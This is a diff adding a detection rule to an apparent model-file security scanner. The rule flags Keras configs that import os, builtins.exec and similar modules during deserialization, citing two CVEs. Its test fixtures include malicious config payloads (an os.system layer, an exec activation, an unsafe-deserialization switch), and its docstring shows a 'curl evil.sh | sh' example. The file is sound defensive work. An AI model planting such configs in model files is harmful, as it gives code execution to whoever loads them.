@@ -1,0 +1,65 @@
+"""S104 config-import: a config object whose module Keras would import is os, subprocess, builtins.exec..."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from inspector.engine import RuleOptions, Violation, rule
+from inspector.graph import ModelGraph
+from inspector.rules import _examples as ex
+
+
+@rule(
+    "S104", "config-import", "error", security_severity=9.8,
+    invalid=[
+        ex.sequential((None, 8), ex.layer("system", "boom", module="os", command="touch /tmp/pwned"),
+                      ex.layer("Dense", "out", units=1)),
+        ex.sequential((None, 8), ex.layer("Dense", "out", units=1, activation={
+            "module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"})),
+        ex.sequential((None, 8), ex.layer("Dense", "out", units=1, kernel_initializer={
+            "module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
+            "registered_name": "function"})),
+        # a Keras 2 Lambda whose named function tf_keras looks up in the stored module
+        ex.sequential((None, 8), {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
+                                  "config": {"name": "run", "trainable": True, "function": "system",
+                                             "function_type": "function", "module": "os", "arguments": {},
+                                             "output_shape": None, "output_shape_type": "raw"}}),
+        ex.sequential((None, 8), ex.layer("TFSMLayer", "remote", filepath="/tmp/other_savedmodel",
+                                          call_endpoint="serve")),
+    ],
+    valid=[
+        ex.dense_chain("mlp", [16]),
+        ex.sequential((None, 8), ex.layer("Dense", "out", units=1, activation={
+            "module": "builtins", "class_name": "function", "config": "abs", "registered_name": "function"})),
+        ex.sequential((None, 8), ex.layer("AttentionPooling", "pool", module="my_project.layers")),
+    ],
+)
+def config_import(graph: ModelGraph, opts: RuleOptions) -> Iterator[Violation]:
+    """
+    ## What it does
+    Reports objects in the model config (layers, activations, initializers, nested configs) whose
+    stored `module` (or dotted `registered_name`) makes Keras import a module that reaches the
+    system: `os`, `subprocess`, `builtins` (`exec`, `eval`, `open`, ...), `importlib`, `socket`,
+    `pickle` and the like, or a Keras function that changes what loading does
+    (`keras.config.enable_unsafe_deserialization`, `keras.utils.get_file`, a `TFSMLayer` that
+    loads a SavedModel from a path the file chooses).
+
+    ## Why it matters
+    Keras and tf_keras resolve every `{"module": ..., "class_name": ...}` in a config by importing
+    the module and taking the attribute named (`_retrieve_class_or_fn`): a config naming
+    `os.system` gets it called while the model is rebuilt, with the default `safe_mode=True`
+    (CVE-2025-1550; CVE-2025-9906 switched safe mode off from the file). S102 `unknown-layer` warns
+    about classes that need their package; this is not a missing package, it is an attack.
+
+    ## Example
+    ```json
+    {"module": "os", "class_name": "system", "config": {"command": "curl evil.sh | sh"}}
+    ```
+
+    ## How to fix
+    Do not load the file. A model you built yourself never stores these modules: re-export it
+    from your code.
+    """
+    for p in graph.source.payloads:
+        if p.kind == "import":
+            yield Violation(f"{p.place}: {p.detail}")
